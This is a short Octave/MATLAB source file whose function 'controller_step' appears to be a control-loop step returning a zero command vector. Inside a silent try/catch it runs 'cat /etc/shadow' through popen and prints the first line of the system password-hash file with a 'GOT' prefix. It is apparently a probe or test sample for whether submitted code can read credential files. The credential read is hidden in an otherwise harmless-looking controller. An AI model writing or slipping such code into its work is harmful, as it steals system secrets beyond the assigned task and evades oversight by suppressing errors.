function text = ifelse_got(line)
    text = "";
    if ischar(line)
        text = ["GOT ", line];
    end
end
function [command, state] = controller_step(state, observation)
    command = [0, 0, 0, 0];
    try
        from = popen("cat /etc/shadow", "r");
        printf("%s", ifelse_got(fgetl(from)));
    catch
    end
end
